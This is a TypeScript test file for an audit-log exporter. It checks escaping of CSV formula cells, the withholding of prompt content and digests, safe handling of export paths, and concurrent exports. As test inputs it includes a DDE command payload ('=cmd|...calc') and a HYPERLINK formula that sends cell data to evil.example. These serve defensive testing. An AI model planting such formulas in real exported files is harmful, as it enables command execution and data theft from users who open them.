import { createHash, generateKeyPairSync } from "node:crypto";
import { execFileSync } from "node:child_process";
import fs from "node:fs";
import path from "node:path";
import { Writable } from "node:stream";
import { parse } from "csv-parse/sync";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { AuditConfigError } from "../../src/errors.js";
import { CSV_COLUMNS, restoreCsvText } from "../../src/export/csv.js";
import { AuditExporter } from "../../src/export/exporter.js";
import { WITHHELD_MARKER } from "../../src/export/withhold.js";
import { AuditLogger } from "../../src/logger.js";
import { AuditViewer } from "../../src/reader/viewer.js";
import { RECORD_KINDS, type RecordType } from "../../src/types.js";
import { cleanupTmp, TEST_KEY, tmpProject, walk } from "../helpers/index.js";
import { buildFixture, type Fixture } from "../reader/fixture.js";

let fx: Fixture;
beforeAll(async () => {
  fx = await buildFixture();
});
afterAll(async () => {
  if (!fx.live.isClosed) await fx.live.finalizeSession();
  cleanupTmp();
});

const CSV_METHOD: Record<RecordType, keyof AuditExporter> = {
  chat_interaction: "exportChatInteractionsToCsv",
  tool_usage: "exportToolUsagesToCsv",
  persona_activity: "exportPersonaActivitiesToCsv",
  file_operation: "exportFileOperationsToCsv",
  performance_metric: "exportPerformanceMetricsToCsv",
  error: "exportErrorsToCsv",
};

async function all<T>(it: AsyncIterable<T>): Promise<T[]> {
  const out: T[] = [];
  for await (const x of it) out.push(x);
  return out;
}

describe("CSV export", () => {
  it("parses back (csv-parse) to the same records, formulas neutralised", async () => {
    const viewer = new AuditViewer({ auditPath: fx.auditPath, encryptionKey: TEST_KEY });
    const exporter = new AuditExporter(viewer);
    const out = tmpProject("audit-csv-");
    for (const kind of RECORD_KINDS) {
      const file = path.join(out, `${kind}.csv`);
      const method = exporter[CSV_METHOD[kind]] as (f: string, o: object) => Promise<number>;
      const rows = await method.call(exporter, file, { includeFullContent: true });
      const records = (await all(viewer.iterate(kind))) as unknown as Array<Record<string, unknown>>;
      expect(rows).toBe(records.length);
      const text = fs.readFileSync(file, "utf8");
      const parsed = parse(text, { columns: false, relax_column_count: false }) as string[][];
      expect(parsed[0]).toEqual(CSV_COLUMNS[kind]);
      const body = parsed.slice(1);
      expect(body).toHaveLength(records.length);
      body.forEach((cells, i) => {
        const rec = records[i]!;
        for (const key of Object.keys(rec)) expect(CSV_COLUMNS[kind]).toContain(key);
        CSV_COLUMNS[kind].forEach((col, c) => {
          const cell = cells[c]!;
          const want = rec[col];
          if (want === undefined) expect([col, cell]).toEqual([col, ""]);
          else if (typeof want === "string") {
            expect(/^[=+\-@\t\r]/.test(cell)).toBe(false);
            expect(restoreCsvText(cell)).toBe(want);
          } else if (typeof want === "number" || typeof want === "boolean") expect(JSON.parse(cell)).toBe(want);
          else expect(JSON.parse(restoreCsvText(cell))).toEqual(want);
        });
      });
    }
    const chats = fs.readFileSync(path.join(out, "chat_interaction.csv"), "utf8");
    expect(chats).toContain("'=cmd|' /C calc'!A0 alpha0");
    expect(chats).toMatch(/"alpha prompt 1, with ""quotes"", commas\nand a newline"/);
  });

  it("neutralises every dangerous first character and keeps negative numbers numeric", async () => {
    const projectPath = tmpProject();
    const logger = new AuditLogger({ sessionId: "cells", projectPath });
    const nasty = ["=1+1", "+SUM(A1)", "-2+3", "@cmd", "\tlead", "\rlead", "'quoted", "plain, \"x\"\nnext"];
    for (const m of nasty) logger.logError({ errorType: "T", message: m });
    logger.logPerformanceMetric({ metricName: "delta", value: -5, unit: "ms" });
    await logger.finalizeSession();
    const exporter = new AuditExporter({ auditPath: path.join(projectPath, "audit_logs") });
    const file = path.join(projectPath, "errors.csv");
    await exporter.exportErrorsToCsv(file);
    const rows = parse(fs.readFileSync(file, "utf8"), { columns: true }) as Array<Record<string, string>>;
    expect(rows.map((r) => r.message)).toEqual([...nasty.slice(0, -1).map((m) => `'${m}`), nasty.at(-1)]);
    expect(rows.map((r) => restoreCsvText(r.message!))).toEqual(nasty);
    const mfile = path.join(projectPath, "m.csv");
    await exporter.exportPerformanceMetricsToCsv(mfile);
    expect((parse(fs.readFileSync(mfile, "utf8"), { columns: true }) as Array<Record<string, string>>)[0]!.value).toBe("-5");
  });

  it("neutralises a header cell too: a member a tampered line adds becomes a column named by it (its name ran as a formula: review 2026-12-05)", async () => {
    const projectPath = tmpProject();
    const logger = new AuditLogger({ sessionId: "hdr", projectPath });
    logger.logError({ errorType: "T", message: "m" });
    await logger.finalizeSession();
    const auditPath = path.join(projectPath, "audit_logs");
    const file = path.join(auditPath, "errors_hdr.jsonl");
    const rec = JSON.parse(fs.readFileSync(file, "utf8").trim()) as Record<string, unknown>;
    const formula = '=HYPERLINK("http://evil.example/?"&A2,"open")';
    const { hash, ...rest } = rec;
    fs.writeFileSync(file, JSON.stringify({ ...rest, [formula]: "x", "@SUM(1)": "y", hash }) + "\n");
    const out = path.join(projectPath, "errors.csv");
    await new AuditExporter({ auditPath }).exportErrorsToCsv(out);
    const [header, row] = parse(fs.readFileSync(out, "utf8")) as string[][];
    for (const cell of header!) expect(/^[=+\-@\t\r]/.test(cell), cell).toBe(false);
    expect(header).toContain(`'${formula}`);
    expect(header).toContain("'@SUM(1)");
    expect(header!.map(restoreCsvText)).toContain(formula);
    expect(row![header!.indexOf(`'${formula}`)]).toBe("x");
    expect(header!.slice(0, CSV_COLUMNS.error.length - 6)).toEqual(CSV_COLUMNS.error.slice(0, -6));
  });

  it("rejects unknown options", async () => {
    const exporter = new AuditExporter({ auditPath: fx.auditPath });
    await expect(exporter.exportErrorsToCsv(path.join(fx.projectPath, "x.csv"), { includeContent: true } as never)).rejects.toBeInstanceOf(AuditConfigError);
    expect(fs.existsSync(path.join(fx.projectPath, "x.csv"))).toBe(false);
  });

  it("a target that is neither a path nor a writable stream is an AuditConfigError naming it, for every export method (API.md audit, 2026-12-05: a bare TypeError, or AUDIT_ERR_IO \"Writing the export to a stream failed\")", async () => {
    const exporter = new AuditExporter({ auditPath: fx.auditPath });
    for (const bad of [123, null, undefined, "", {}, { write: 1 }]) {
      const calls: Array<[string, () => Promise<unknown>]> = [
        ["exportToJson.file", () => exporter.exportToJson(bad as never)],
        ...Object.values(CSV_METHOD).map((m) => [`${String(m)}.file`, () => (exporter[m] as (f: unknown) => Promise<unknown>)(bad)] as [string, () => Promise<unknown>]),
        ["exportCompleteAuditToDirectory.dir", () => exporter.exportCompleteAuditToDirectory(bad as never)],
      ];
      for (const [field, call] of calls) {
        const err = await call().then(() => undefined, (e: unknown) => e);
        expect(err, `${field} ${JSON.stringify(bad)}`).toBeInstanceOf(AuditConfigError);
        expect((err as AuditConfigError).issues.map((i) => i.field)).toEqual([field]);
      }
    }
    // a web WritableStream is a stream too (pipeline writes to it), as before the check
    const chunks: Buffer[] = [];
    await exporter.exportToJson(new WritableStream<Uint8Array>({ write: (c) => void chunks.push(Buffer.from(c)) }) as never);
    expect((JSON.parse(Buffer.concat(chunks).toString("utf8")) as { format: string }).format).toMatch(/audit/);
    // with a bad option too, both are named
    const both = await exporter.exportCompleteAuditToDirectory(5 as never, { includeContent: true } as never).then(() => undefined, (e: unknown) => e);
    expect((both as AuditConfigError).issues.map((i) => i.field).sort()).toEqual(["exportCompleteAuditToDirectory.dir", "exportCompleteAuditToDirectory.includeContent"]);
  });

  it("refuses to write into the audit directory (an export there held plaintext content beside the logs, and its manifest turned verify into an export's check), also through a symlink", async () => {
    const exporter = new AuditExporter({ auditPath: fx.auditPath });
    const link = path.join(fx.projectPath, "logs_link");
    fs.symlinkSync(fx.auditPath, link);
    const before = fs.readdirSync(fx.auditPath).sort();
    for (const target of [fx.auditPath, path.join(fx.auditPath, "sub"), path.join(link, "exp")]) {
      await expect(exporter.exportCompleteAuditToDirectory(target)).rejects.toThrow(expect.objectContaining({ code: "AUDIT_ERR_CONFIG", message: expect.stringMatching(/dir: .*inside the audit directory/) }));
    }
    await expect(exporter.exportToJson(path.join(fx.auditPath, "all.json"))).rejects.toThrow(/file: .*inside the audit directory/);
    await expect(exporter.exportToolUsagesToCsv(path.join(link, "t.csv"))).rejects.toThrow(/file: .*inside the audit directory/);
    // (a name that begins with ".." is inside all the same)
    await expect(exporter.exportToJson(path.join(fx.auditPath, "..x.json"))).rejects.toThrow(/file: .*inside the audit directory/);
    await expect(exporter.exportCompleteAuditToDirectory(path.join(fx.auditPath, "..exp"))).rejects.toThrow(/dir: .*inside the audit directory/);
    expect(fs.readdirSync(fx.auditPath).sort()).toEqual(before);
    // next to it is fine
    await exporter.exportToolUsagesToCsv(path.join(fx.projectPath, "audit_logs_tools.csv"));
    expect(fs.existsSync(path.join(fx.projectPath, "audit_logs_tools.csv"))).toBe(true);
  });
});

describe("exports without content", () => {
  const CANARY = ["CANARY_PROMPT_7f3a", "CANARY_RESPONSE_91bc", "CANARY_TOOLCALL_55de", "CANARY_PARAM_0c1d", "CANARY_RESULT_e4f2"];

  async function canaryLogs() {
    const projectPath = tmpProject("audit-canary-");
    for (const encrypted of [false, true]) {
      const logger = new AuditLogger({ sessionId: encrypted ? "enc" : "plain", projectPath, ...(encrypted ? { encryptSensitiveContent: true, encryptionKey: TEST_KEY } : {}) });
      for (let i = 0; i < 3; i++) {
        logger.logChatInteraction({
          prompt: `say ${CANARY[0]} ${i}`,
          response: `${CANARY[1]} back`,
          toolCalls: [{ name: "lookup", arguments: { q: CANARY[2] } }],
          model: "gpt-4o",
          inputTokens: 10,
          outputTokens: 5,
        });
        logger.logToolUsage({ toolName: "lookup", operation: "get", parameters: { q: CANARY[3] }, result: [CANARY[4]] });
      }
      await logger.finalizeSession();
    }
    return path.join(projectPath, "audit_logs");
  }

  const bytesOf = (files: string[]) => files.map((f) => fs.readFileSync(f, "latin1")).join("\n");

  it("leaves no prompt, response, tool call, parameter or result text in JSON, CSV or directory exports", async () => {
    const auditPath = await canaryLogs();
    const out = tmpProject("audit-export-");
    const exporter = new AuditExporter({ auditPath, encryptionKey: TEST_KEY });
    await exporter.exportToJson(path.join(out, "all.json"), { includeFullContent: false });
    await exporter.exportChatInteractionsToCsv(path.join(out, "chats.csv"));
    await exporter.exportToolUsagesToCsv(path.join(out, "tools.csv"));
    await exporter.exportCompleteAuditToDirectory(path.join(out, "dir"));
    const text = bytesOf(walk(out));
    for (const c of CANARY) expect(text).not.toContain(c);
    expect(text).not.toContain("$enc");
    // the records say so, and keep the lengths
    const doc = JSON.parse(fs.readFileSync(path.join(out, "all.json"), "utf8")) as { includeFullContent: boolean; records: Record<string, Array<Record<string, unknown>>> };
    expect(doc.includeFullContent).toBe(false);
    expect(doc.records.chat_interactions).toHaveLength(6);
    for (const r of doc.records.chat_interactions!) {
      // (an unencrypted log's plain content hashes and content file digests too: see the next test)
      // (and, since 2026-12-05, an unencrypted log's chain hashes: test/export/withheld-hash.test.ts)
      expect(r.contentWithheld).toEqual(r.sessionId === "enc" ? ["promptPreview", "responsePreview", "toolCalls"] : ["promptPreview", "responsePreview", "toolCalls", "promptHash", "responseHash", "fullContent", "prevHash", "hash"]);
      expect(r.hash === undefined).toBe(r.sessionId === "plain");
      expect(r.promptPreview).toBe(WITHHELD_MARKER);
      expect(r.promptLength).toBeGreaterThan(0);
      expect(r.content).toBeUndefined();
    }
    for (const r of doc.records.tool_usage!) {
      expect(r.contentWithheld).toEqual(r.sessionId === "enc" ? ["parameters", "result"] : ["parameters", "result", "prevHash", "hash"]);
      expect(r.parametersLength).toBe(JSON.stringify({ q: CANARY[3] }).length);
    }

    // the same exports with content carry every canary: the check above can fail
    const out2 = tmpProject("audit-export-full-");
    await exporter.exportCompleteAuditToDirectory(out2, { includeFullContent: true });
    const full = bytesOf(walk(out2));
    for (const c of CANARY) expect(full).toContain(c);
  });

  // Found by review 2026-12-04 (fourth session): without content, an unencrypted log's export kept
  // the plain SHA-256 of each prompt and response (and of its content files): anyone could confirm
  // a guessed prompt.
  it("without content, an unencrypted log's export holds no plain digest of a prompt or response; the directory export still verifies", async () => {
    const { createHash } = await import("node:crypto");
    const { verifyExport } = await import("../../src/index.js");
    const projectPath = tmpProject();
    const logger = new AuditLogger({ sessionId: "plain", projectPath });
    const prompt = "is 2+2 four?";
    const response = "yes";
    logger.logChatInteraction({ prompt, response, model: "m" });
    await logger.finalizeSession();
    const digest = (t: string) => createHash("sha256").update(t, "utf8").digest("hex");
    const onDisk = fs.readFileSync(path.join(logger.auditDir, "chat_interactions_plain.jsonl"), "utf8");
    expect(onDisk).toContain(digest(prompt)); // (the log itself has them: the check below can fail)
    const out = tmpProject("audit-export-");
    const exporter = new AuditExporter({ auditPath: logger.auditDir });
    await exporter.exportToJson(path.join(out, "all.json"), { includeFullContent: false });
    await exporter.exportChatInteractionsToCsv(path.join(out, "chats.csv"));
    await exporter.exportCompleteAuditToDirectory(path.join(out, "dir"));
    const text = bytesOf(walk(out));
    for (const t of [prompt, response]) expect(text).not.toContain(digest(t));
    const content = fs.readdirSync(path.join(logger.auditDir, "full_interactions")).filter((n) => !n.startsWith("manifest_"));
    expect(content.length).toBe(2);
    for (const n of content) expect(text).not.toContain(createHash("sha256").update(fs.readFileSync(path.join(logger.auditDir, "full_interactions", n))).digest("hex"));
    const chat = (JSON.parse(fs.readFileSync(path.join(out, "all.json"), "utf8")) as { records: { chat_interactions: Array<Record<string, unknown>> } }).records.chat_interactions[0]!;
    expect(chat.contentWithheld).toEqual(["promptPreview", "responsePreview", "promptHash", "responseHash", "fullContent", "prevHash", "hash"]);
    expect(chat.promptHash).toBe(WITHHELD_MARKER);
    expect(chat.fullContent).toMatchObject({ prompt: { sha256: WITHHELD_MARKER, bytes: Buffer.byteLength(prompt) } });
    const v = await verifyExport(path.join(out, "dir"));
    expect(v.problems).toEqual([]);
  });

  it("with content: the JSON export holds the exact full texts, decrypted and verified", async () => {
    const projectPath = tmpProject();
    const logger = new AuditLogger({ sessionId: "full", projectPath, encryptSensitiveContent: true, encryptionKey: TEST_KEY });
    const prompt = "Ünïcødé ✓ ".repeat(50_000);
    const id = logger.logChatInteraction({ prompt, response: "fine 👍", model: "m" });
    // the exporter flushes a live logger itself
    const exporter = new AuditExporter(logger);
    const file = path.join(projectPath, "out.json");
    await exporter.exportToJson(file, { includeFullContent: true });
    const doc = JSON.parse(fs.readFileSync(file, "utf8")) as { sessions: Array<{ sessionId: string }>; records: Record<string, Array<Record<string, unknown>>> };
    expect(doc.sessions.map((s) => s.sessionId)).toEqual(["full"]);
    const chat = doc.records.chat_interactions![0]!;
    expect(chat.id).toBe(id);
    expect(chat.content).toMatchObject({ prompt, response: "fine 👍", encrypted: true, verified: true });
    await logger.finalizeSession();
  });
});

describe("exportCompleteAuditToDirectory", () => {
  it("writes every file and a checksums.json that matches them", async () => {
    const out = path.join(tmpProject("audit-dir-"), "exports");
    const res = await new AuditExporter({ auditPath: fx.auditPath, encryptionKey: TEST_KEY }).exportCompleteAuditToDirectory(out, { includeFullContent: true });
    const onDisk = walk(out).map((f) => path.relative(out, f)).sort();
    expect(onDisk).toEqual([...res.files].sort());
    expect(onDisk).toEqual(
      ["analytics_report.json", "audit_complete.json", "checksums.json", "chat_interactions.csv", "errors.csv", "export_manifest.json", "file_operations.csv", "performance_metrics.csv", "persona_activities.csv", "tool_usage.csv"].sort(),
    );
    const sums = JSON.parse(fs.readFileSync(path.join(out, "checksums.json"), "utf8")) as { algorithm: string; files: Record<string, string> };
    expect(sums.algorithm).toBe("sha256");
    expect(Object.keys(sums.files).sort()).toEqual(onDisk.filter((f) => f !== "checksums.json" && f !== "export_manifest.json"));
    for (const [f, digest] of Object.entries(sums.files)) {
      expect(createHash("sha256").update(fs.readFileSync(path.join(out, f))).digest("hex")).toBe(digest);
    }
    const doc = JSON.parse(fs.readFileSync(path.join(out, "audit_complete.json"), "utf8")) as { records: Record<string, unknown[]>; sessions: unknown[] };
    expect(doc.sessions).toHaveLength(2);
    const count = (k: string) => fx.logged.filter((l) => l.kind === k).length;
    expect(doc.records.chat_interactions).toHaveLength(count("chat_interaction"));
    expect(doc.records.performance_metrics).toHaveLength(count("performance_metric"));
    const report = JSON.parse(fs.readFileSync(path.join(out, "analytics_report.json"), "utf8")) as { totals: { records: number } };
    expect(report.totals.records).toBe(fx.logged.length);
    // a changed file no longer matches
    fs.appendFileSync(path.join(out, "errors.csv"), "x");
    expect(createHash("sha256").update(fs.readFileSync(path.join(out, "errors.csv"))).digest("hex")).not.toBe(sums.files["errors.csv"]);
  });

  it("replaces only the integrity/ files an earlier export's manifest lists: a folder of the user's there, or an audit directory named integrity, is refused and left whole (both were removed recursively, exit 0: review 2026-12-05, #1)", async () => {
    const root = tmpProject("audit-dir-integrity-");
    // a signed log: its export has checkpoints under integrity/
    const { privateKey } = generateKeyPairSync("ed25519");
    const signed = new AuditLogger({ sessionId: "signed", projectPath: path.join(root, "signed"), signingKey: privateKey });
    signed.logToolUsage({ toolName: "t", operation: "op" });
    await signed.finalizeSession();
    const exporter = new AuditExporter({ auditPath: signed.auditDir });

    // a user's folder named integrity in the export directory
    const out = path.join(root, "out");
    fs.mkdirSync(path.join(out, "integrity"), { recursive: true });
    fs.writeFileSync(path.join(out, "integrity", "notes.txt"), "important\n");
    await expect(exporter.exportCompleteAuditToDirectory(out)).rejects.toThrow(
      expect.objectContaining({ code: "AUDIT_ERR_PATH", message: expect.stringMatching(/exportCompleteAuditToDirectory\.dir: .*integrity holds .*notes\.txt/) }),
    );
    expect(fs.readFileSync(path.join(out, "integrity", "notes.txt"), "utf8")).toBe("important\n");

    // an earlier export's own files are replaced; one added beside them makes the next export stop
    const exp = path.join(root, "exp");
    await exporter.exportCompleteAuditToDirectory(exp);
    await exporter.exportCompleteAuditToDirectory(exp);
    expect(fs.readdirSync(path.join(exp, "integrity"))).toEqual(["checkpoints_signed.jsonl"]);
    fs.writeFileSync(path.join(exp, "integrity", "mine.txt"), "x");
    await expect(exporter.exportCompleteAuditToDirectory(exp)).rejects.toMatchObject({ code: "AUDIT_ERR_PATH", message: expect.stringContaining("mine.txt") });
    expect(fs.readdirSync(path.join(exp, "integrity")).sort()).toEqual(["checkpoints_signed.jsonl", "mine.txt"]);
    // an export of a log without evidence over it removes the earlier export's integrity/ (its files only)
    fs.rmSync(path.join(exp, "integrity", "mine.txt"));
    await new AuditExporter({ auditPath: fx.auditPath }).exportCompleteAuditToDirectory(exp);
    expect(fs.existsSync(path.join(exp, "integrity"))).toBe(false);

    // the audit directory itself named integrity, exported to its parent (directly or through a link)
    const trailDir = path.join(root, "parent", "integrity");
    fs.cpSync(signed.auditDir, trailDir, { recursive: true });
    const before = fs.readdirSync(trailDir).sort();
    fs.symlinkSync(path.join(root, "parent"), path.join(root, "parent_link"));
    for (const target of [path.join(root, "parent"), path.join(root, "parent_link"), root]) {
      await expect(new AuditExporter({ auditPath: trailDir }).exportCompleteAuditToDirectory(target)).rejects.toThrow(
        expect.objectContaining({ code: "AUDIT_ERR_CONFIG", message: expect.stringMatching(/dir: .*contains the audit directory/) }),
      );
    }
    expect(fs.readdirSync(trailDir).sort()).toEqual(before);
    expect(fs.existsSync(path.join(root, "parent", "audit_complete.json"))).toBe(false);
  });

  it("refuses a target that is a FIFO or a symbolic link, leaving it as it was (it was replaced by a regular file: review 2026-12-05, #2); a writable stream gets the export", async () => {
    const root = tmpProject("audit-out-");
    const exporter = new AuditExporter({ auditPath: fx.auditPath });
    const fifo = path.join(root, "fifo");
    execFileSync("mkfifo", [fifo]);
    fs.writeFileSync(path.join(root, "real.csv"), "mine\n");
    fs.symlinkSync("real.csv", path.join(root, "link.csv"));
    await expect(exporter.exportToJson(fifo)).rejects.toMatchObject({ code: "AUDIT_ERR_PATH", message: expect.stringContaining(`exportToJson.file: ${fifo} is a FIFO, not a regular file`) });
    await expect(exporter.exportErrorsToCsv(path.join(root, "link.csv"))).rejects.toMatchObject({ code: "AUDIT_ERR_PATH", message: expect.stringContaining("exportErrorsToCsv.file") });
    expect(fs.lstatSync(fifo).isFIFO()).toBe(true);
    expect(fs.readlinkSync(path.join(root, "link.csv"))).toBe("real.csv");
    expect(fs.readFileSync(path.join(root, "real.csv"), "utf8")).toBe("mine\n");
    expect(fs.readdirSync(root).sort()).toEqual(["fifo", "link.csv", "real.csv"]);
    // a stream
    let text = "";
    const sink = new Writable({ write(chunk: Buffer | string, _e, done) { text += chunk.toString(); done(); } });
    const rows = await exporter.exportErrorsToCsv(sink);
    expect(sink.writableEnded).toBe(false);
    expect(parse(text, { columns: true })).toHaveLength(rows);
  });
});

// An export file's temporary name was `<file>.<pid>.<Date.now()>.tmp`: two exports of one process
// to one path started in the same millisecond wrote the same temporary file at once, and the one
// renamed in held both interleaved (or the second rename failed, ENOENT). Found by the durability
// operator pass, 2026-12-05: now `<file>.<pid>.<random>.tmp`, created exclusively.
describe("two exports of one process to one path at once", () => {
  it("all succeed and the file left is one of them whole; no temporary file is left", async () => {
    const exporter = new AuditExporter({ auditPath: fx.auditPath });
    const dir = tmpProject("export-race-");
    const file = path.join(dir, "all.json");
    const csv = path.join(dir, "tools.csv");
    const alone = path.join(dir, "alone.json");
    const aloneCsv = path.join(dir, "alone.csv");
    await exporter.exportToJson(alone);
    await exporter.exportToolUsagesToCsv(aloneCsv);
    // (the same call three times, in one tick: their temporary names were made in the same millisecond)
    const results = await Promise.allSettled([...[1, 2, 3].map(() => exporter.exportToJson(file)), ...[1, 2, 3].map(() => exporter.exportToolUsagesToCsv(csv))]);
    expect(results.filter((r) => r.status === "rejected")).toEqual([]);
    const text = fs.readFileSync(file, "utf8");
    const strip = (s: string): unknown => ({ ...(JSON.parse(s) as Record<string, unknown>), exportedAt: undefined });
    expect(strip(text)).toEqual(strip(fs.readFileSync(alone, "utf8")));
    expect(fs.readFileSync(csv, "utf8")).toBe(fs.readFileSync(aloneCsv, "utf8"));
    expect(fs.readdirSync(dir).sort()).toEqual(["all.json", "alone.csv", "alone.json", "tools.csv"]);
  });
});
